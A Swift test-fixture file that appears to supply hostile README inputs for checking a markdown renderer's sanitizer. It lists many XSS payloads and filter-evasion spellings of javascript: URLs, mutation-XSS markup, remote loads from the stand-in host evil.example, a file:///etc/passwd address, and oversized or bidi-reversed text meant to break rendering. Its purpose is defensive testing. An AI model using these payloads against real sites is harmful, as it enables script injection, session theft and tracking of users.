import Foundation

/// READMEs that are written to do harm: every way to run code or to fetch, in every place that a README has.
enum HostileCases {
  /// One README.
  struct Case {
    let name: String
    let source: String
  }

  /// A word that each payload would leave behind if it ran: `window.pwned`.
  private static let run = "window.pwned=1"

  /// HTML that runs, frames, fetches, or restyles.
  static let payloads: [String] =
    elements + handlers + foreign + mutations + broken

  private static let elements = [
    "<script>\(run)</script>", "<SCRIPT src=//evil.example/x.js></SCRIPT>",
    "<script\u{C}>\(run)</script\u{C}>",
    "<scr<script>ipt>\(run)</scr</script>ipt>", "<script type=module>\(run)",
    "<iframe src='javascript:\(run)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.pwned=1&lt;/script&gt;'></iframe>",
    "<frameset onload='\(run)'><frame src=//evil.example></frameset>",
    "<object data='data:text/html,<script>\(run)</script>'></object>", "<embed src='//evil.example/x.swf'>",
    "<base href='//evil.example/'>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<form action='javascript:\(run)'><button>go</button></form>",
    "<button formaction='javascript:\(run)'>go</button>",
    "<portal src='//evil.example'></portal>", "<template><script>\(run)</script></template>",
    "<dialog open onclose='\(run)'>x</dialog>", "<marquee onstart='\(run)'>x</marquee>",
  ]

  private static let handlers = [
    "<img src=x onerror='\(run)'>", "<img src=x\u{C}onerror=\(run)>", "<img/src=x/onerror=\(run)>",
    "<img src='x'onerror='\(run)'>", "<img \"=x onerror=\(run) src=y>", "<img src=`x` onerror=`\(run)`>",
    "<body onload='\(run)'>x</body>", "<details open ontoggle='\(run)'><summary>s</summary>x</details>",
    "<div onpointerenter='\(run)' style='position:fixed;inset:0'>x</div>",
    "<input autofocus onfocus='\(run)'>", "<select autofocus onfocus='\(run)'><option>x</select>",
    "<video><source onerror='\(run)'></video>", "<audio src=x onerror='\(run)'>",
    "<a href=# onclick='\(run)'>x</a>", "<p style='animation:x' onanimationstart='\(run)'>x</p>",
    "<x-y onfocus='\(run)' tabindex=1 autofocus>x</x-y>", "<div contenteditable oninput='\(run)'>x</div>",
    "<span title='a\u{0301}\" onmouseover=\"\(run)'>x</span>",
    "<span title=\"a'\u{0338} onmouseover='\(run)\">x</span>",
  ]

  private static let foreign = [
    "<img src='//evil.example/x.png'>", "<img src='/\\evil.example/x.png'>",
    "<img src='\\\\evil.example\\x.png'>",
    "<img src='http:evil.example/x'>", "<img src=x srcset='//evil.example/x 2x'>",
    "<picture><source srcset='//evil.example/y'><img src=z></picture>",
    "<video poster='//evil.example/p'></video>",
    "<table background='//evil.example/b'><tr><td>x</td></tr></table>",
    "<p style='background:url(//evil.example/s)'>x</p>",
    "<svg><image href='//evil.example/i'/></svg>", "<svg><use href='//evil.example/u#x'/></svg>",
    "<a href=# ping='//evil.example/p'>x</a>", "<img src=\"data:image/svg+xml,<svg onload='\(run)'>\">",
    "<input type=image src='//evil.example/t'>", "<track src='//evil.example/t'>",
  ]

  /// Markup that means something else once it was read and written by one parser and is read by another.
  private static let mutations = [
    "<svg><script>\(run)</script></svg>", "<svg onload='\(run)'>",
    "<svg><style><img src=x onerror='\(run)'></style></svg>",
    "<svg><animate onbegin='\(run)' attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to='javascript:\(run)'></a></svg>",
    "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror='\(run)'>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror='\(run)'&gt;\">",
    "<math href='javascript:\(run)'>x</math>",
    "<math><maction actiontype='statusline#//evil.example'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror='\(run)'>",
    "<noscript><p title='</noscript><img src=x onerror=\(run)>'>",
    "<xmp><p title='</xmp><img src=x onerror=\(run)>'></xmp>",
    "<textarea></textarea><img src=x onerror='\(run)'>", "<title></title><script>\(run)</script>",
    "<noembed><img src=x onerror='\(run)'></noembed>", "<plaintext><script>\(run)</script>",
    "<select><iframe></select><img src=x onerror='\(run)'>",
    "<table><td><template></td><img src=x onerror='\(run)'>",
    "<a href='#'><table><a href='javascript:\(run)'>x</a></table></a>", "<!--><script>\(run)</script>-->",
    "<!--!><img src=x onerror='\(run)'>-->", "<![CDATA[<script>\(run)</script>]]>",
    "<?xml version='1.0'?><script>\(run)</script>",
    "</br><p></p><svg/onload='\(run)'>", "<listing>&lt;img src=x onerror=\(run)&gt;</listing>",
  ]

  private static let broken = [
    "<", "<a", "<a href", "<a href=", "<a href='", "</", "</script", "<!", "<!-", "<!--", "<?", "&#", "&lt",
    "<img src=x onerror=\(run)",
    "<div><p><table><tr><b><i><a href=x>", "</div></main></body></html><script>\(run)</script>",
    "</section></div></main><h1>taken over</h1>",
  ]

  /// Addresses that run code, in the spellings that some browser takes for one.
  static let addresses = [
    "javascript:\(run)", "JaVaScRiPt:\(run)", " javascript:\(run)", "java&#10;script:\(run)",
    "java&Tab;script:\(run)",
    "javascript&colon;\(run)", "javascript&#x3a;\(run)", "&#106;avascript:\(run)", "\u{1}javascript:\(run)",
    "javascript://%0a\(run)", "javascript\u{FF1A}\(run)", "\u{200B}javascript:\(run)",
    "jav\u{0301}ascript:\(run)",
    "vbscript:\(run)", "data:text/html,<script>opener.pwned=1</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:image/svg+xml,<svg/onload=\(run)>", "blob:x", "file:///etc/passwd", "view-source:javascript:\(run)",
    "feed:javascript:\(run)", "filesystem:x", "ws://evil.example", "ms-word:x", "intent://x#Intent;end",
  ]

  /// Where HTML can stand in a README.
  private static let places: [(name: String, wrap: @Sendable (String) -> String)] = [
    ("alone", { $0 }),
    ("in a sentence", { "Words \($0) and more." }),
    ("in a cell", { "| a | b |\n| --- | --- |\n| \($0) | x |" }),
    ("in a quote in a list", { "- item\n\n  > \($0)\n  > \($0)" }),
    ("in a heading and a link", { "## \($0)\n\n[\($0)](#x \"\($0.replacing("\"", with: "'"))\")" }),
  ]

  /// Where an address can stand in a README.
  private static let frames: [(name: String, wrap: @Sendable (String) -> String)] = [
    ("link", { "[x](<\($0)>) [y]\n\n[y]: <\($0)>" }), ("picture", { "![x](<\($0)>)" }),
    ("autolink", { "<\($0)>" }),
    ("HTML link", { "<a href=\"\($0.replacing("\"", with: "&quot;"))\">x</a>" }),
    ("HTML picture", { "<img alt=x src=\"\($0.replacing("\"", with: "&quot;"))\">" }),
  ]

  /// What is hostile by its size or its characters.
  private static let shapes = [
    Case(
      name: "a table of 2000 columns",
      source: String(repeating: "|a", count: 2000) + "|\n" + String(repeating: "|-", count: 2000) + "|"),
    Case(name: "a table of 2000 rows", source: "|a|b|\n|-|-|\n" + String(repeating: "|x|y|\n", count: 2000)),
    Case(name: "a quote in a quote, 500 times", source: String(repeating: ">", count: 500) + " x"),
    Case(
      name: "a list in a list, 200 times",
      source: (0..<200).map { String(repeating: "  ", count: $0) + "- x" }.joined(separator: "\n")),
    Case(name: "500 open elements", source: String(repeating: "<div><b>", count: 500)),
    Case(name: "2000 combining marks", source: "a" + String(repeating: "\u{0301}", count: 2000)),
    Case(name: "text that turns round", source: "\u{202E}gnp.exe \u{2066}x\u{2069}\u{202C} `\u{202E}x`"),
    Case(name: "a word of 20 000 letters", source: String(repeating: "w", count: 20_000)),
    Case(
      name: "every control character",
      source: (1..<32).map { "a\(Character(Unicode.Scalar(UInt8($0))))b" }.joined(separator: " ")),
    Case(
      name: "ids of the page",
      source: "# main\n\n# specs\n\n# suggestions\n\n<p id=main>x</p><p id=use name=body>y</p>"),
  ]

  /// All cases.
  static let all: [Case] =
    payloads.enumerated().flatMap { number, payload in
      places.map { Case(name: "payload \(number) \($0.name)", source: $0.wrap(payload)) }
    }
    + addresses.enumerated().flatMap { number, address in
      frames.map { Case(name: "address \(number) as \($0.name)", source: $0.wrap(address)) }
    } + shapes
}
